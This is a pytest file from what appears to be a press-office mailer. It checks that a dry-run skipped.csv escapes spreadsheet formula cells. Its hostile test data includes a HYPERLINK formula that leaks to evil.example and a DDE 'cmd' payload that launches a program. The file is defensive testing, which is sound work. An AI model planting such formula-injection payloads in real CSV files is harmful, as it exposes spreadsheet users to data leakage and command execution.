"""Hostile review 8: the column-wise fast paths against the reference row paths, with hostile list data.

Each finding is a failing test marked ``xfail(strict=True)``, so the branch stays green until the
fix lands (then the marker goes). What held is listed in the review report, not here.
"""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from conftest import ROOT, todays_campaign

from mailer.cli import main
from mailer.spreadsheet import FORMULA_STARTS


@pytest.fixture
def project(tmp_path: Path, db_url: str) -> Path:
    """A press office's folder: the example release, lists and templates, the log in tmp."""
    for folder in ("releases", "lists", "templates"):
        shutil.copytree(ROOT / folder, tmp_path / folder)
    (tmp_path / "mailer.toml").write_text(f'[database]\nurl = "{db_url}"\n', encoding="utf-8")
    return tmp_path


def mailer(*args: str) -> Result:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result


def write_list(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


@pytest.mark.xfail(strict=True, reason="review 8: dry-run skipped.csv writes list cells without spreadsheet.safe_cell")
def test_dry_run_skipped_csv_is_spreadsheet_safe(project: Path) -> None:
    """skipped.csv is a file the press officer opens in a spreadsheet (README: "the rows that get
    no email, and why"); a rejected address cell such as ``=HYPERLINK(...)`` must not be written
    as a formula there, as every other CSV mailer writes (reports, lists clean --rejects)."""
    hostile = ['=HYPERLINK("http://evil.example/?leak","click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    write_list(project / "lists" / "hostile.csv", [["Email", "First Name"], ["ana@example.org", "Ana"], *[[cell, "x"] for cell in hostile]])
    mailer("send", "releases/example.md", "--list", "lists/hostile.csv", "--dry-run")
    skipped = project / "out" / "outbox" / todays_campaign() / "skipped.csv"
    rows = list(csv.reader(skipped.open(encoding="utf-8")))[1:]
    assert len(rows) == len(hostile)
    assert [row[0] for row in rows if row[0].startswith(FORMULA_STARTS)] == []
